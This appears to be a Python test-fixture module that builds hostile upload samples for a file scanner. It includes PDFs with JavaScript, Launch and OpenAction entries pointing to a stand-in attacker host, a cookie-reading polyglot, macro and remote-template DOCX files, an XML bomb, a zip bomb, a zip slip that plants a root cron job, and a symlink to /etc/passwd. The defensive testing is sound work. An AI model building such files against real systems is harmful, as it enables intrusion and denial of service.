"""Hostile files, built in the tests themselves: small samples of what an attacker sends.

Each builder returns ``(file name, bytes)``. The PDFs are made with pikepdf, the Office
files by changing a real DOCX (the call's funding-request template) as an attacker would.
"""

import io
import zipfile

import pikepdf

from demo import modeles

DOCX = modeles.funding_request_docx()
BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">
<w:body><w:p><w:r><w:t>&lol3;</w:t></w:r></w:p></w:body></w:document>"""


def _pdf(build) -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page()
    build(pdf)
    buffer = io.BytesIO()
    pdf.save(buffer)
    return buffer.getvalue()


def pdf_javascript():
    def build(pdf):
        script = pdf.make_indirect(
            pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
        )
        pdf.Root.Names = pikepdf.Dictionary(
            JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("x"), script]))
        )

    return "javascript.pdf", _pdf(build)


def pdf_open_action():
    def build(pdf):
        pdf.Root.OpenAction = pikepdf.Dictionary(
            S=pikepdf.Name.URI, URI=pikepdf.String("http://attaquant.example/piege")
        )

    return "ouverture.pdf", _pdf(build)


def pdf_launch():
    def build(pdf):
        action = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("calc.exe"))
        annotation = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Link,
            Rect=pikepdf.Array([0, 0, 100, 100]),
            A=action,
        )
        pdf.pages[0].Annots = pdf.make_indirect(pikepdf.Array([annotation]))

    return "lancement.pdf", _pdf(build)


def pdf_embedded_file():
    def build(pdf):
        pdf.attachments["facture.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00 not a pdf")

    return "piece-jointe.pdf", _pdf(build)


def pdf_encrypted():
    pdf = pikepdf.new()
    pdf.add_blank_page()
    buffer = io.BytesIO()
    pdf.save(buffer, encryption=pikepdf.Encryption(owner="proprietaire", user="secret"))
    return "chiffre.pdf", buffer.getvalue()


def pdf_html_polyglot():
    pdf = modeles.sample_pdf("Dossier", ["Contenu"])
    # A PDF for libmagic and a PDF reader, a web page for a browser that sniffs it.
    return "polyglotte.pdf", pdf[:9] + b"%<html><script>alert(document.cookie)</script>\n" + pdf[9:]


def _docx(*, extra=(), replace=None, content_types=None):
    """The template DOCX with parts added or replaced, written as an attacker would."""
    replace = replace or {}
    output = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(DOCX)) as source,
        zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            content = replace.get(info.filename, source.read(info))
            if info.filename == "[Content_Types].xml" and content_types:
                content = content_types(content)
            target.writestr(info.filename, content)
        for info, content in extra:
            target.writestr(info, content)
    return output.getvalue()


def docx_vba_project():
    return "macros.docx", _docx(extra=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"\0" * 512)])


def docm_renamed():
    def macro_enabled(content: bytes) -> bytes:
        return content.replace(
            b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
            b"application/vnd.ms-word.document.macroEnabled.main+xml",
        )

    return "renomme.docx", _docx(content_types=macro_enabled)


def docx_remote_template():
    relationships = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="http://attaquant.example/modele.dotm" '
        b'TargetMode="External"/></Relationships>'
    )
    return "modele-distant.docx", _docx(extra=[("word/_rels/settings.xml.rels", relationships)])


def docx_xml_bomb():
    return "bombe-xml.docx", _docx(replace={"word/document.xml": BILLION_LAUGHS})


def zip_bomb():
    # 40 MB of zeros in one entry, compressed about a thousand times.
    return "bombe.docx", _docx(extra=[("word/media/image1.png", b"\0" * (40 * 1024 * 1024))])


def zip_slip():
    return "evasion.docx", _docx(extra=[("../../../../etc/cron.d/piege", b"* * * * * root id")])


def zip_symlink():
    link = zipfile.ZipInfo("word/media/lien")
    link.external_attr = 0o120777 << 16  # a symbolic link
    return "lien.docx", _docx(extra=[(link, b"/etc/passwd")])


def _flag_encrypted(data: bytes, name: bytes) -> bytes:
    """Set the "encrypted" bit of entry ``name`` in its local header and its central
    directory record (``zipfile`` cannot write encrypted entries)."""
    data = bytearray(data)
    for signature, flags_at, name_length_at, name_at in (
        (b"PK\x03\x04", 6, 26, 30),
        (b"PK\x01\x02", 8, 28, 46),
    ):
        start = data.find(signature)
        while start != -1:
            length = int.from_bytes(
                data[start + name_length_at : start + name_length_at + 2], "little"
            )
            if bytes(data[start + name_at : start + name_at + length]) == name:
                flags = int.from_bytes(data[start + flags_at : start + flags_at + 2], "little") | 1
                data[start + flags_at : start + flags_at + 2] = flags.to_bytes(2, "little")
            start = data.find(signature, start + 4)
    return bytes(data)


def zip_encrypted():
    protected = _docx(extra=[("word/secret.xml", b"\x8f\x1a" * 32)])
    return "protege.docx", _flag_encrypted(protected, b"word/secret.xml")


def zip_many_entries():
    return "trop.docx", _docx(extra=[(f"word/media/{n}.xml", b"<a/>") for n in range(2100)])


HOSTILE = {
    "pdf with JavaScript": (pdf_javascript, "pdf_active"),
    "pdf with an OpenAction": (pdf_open_action, "pdf_active"),
    "pdf with a Launch action": (pdf_launch, "pdf_active"),
    "pdf with an embedded file": (pdf_embedded_file, "pdf_attachment"),
    "encrypted pdf": (pdf_encrypted, "pdf_encrypted"),
    "html/pdf polyglot": (pdf_html_polyglot, "pdf_polyglot"),
    "docx with vbaProject.bin": (docx_vba_project, "office_macros"),
    "docm renamed docx": (docm_renamed, "office_macros"),
    "docx with a remote template": (docx_remote_template, "office_external"),
    "xml bomb in a docx": (docx_xml_bomb, "office_xml"),
    "zip bomb": (zip_bomb, "archive_bomb"),
    "zip slip": (zip_slip, "archive_paths"),
    "symbolic link": (zip_symlink, "archive_paths"),
    "encrypted archive": (zip_encrypted, "archive_encrypted"),
    "2,100-entry archive": (zip_many_entries, "archive_entries"),
}
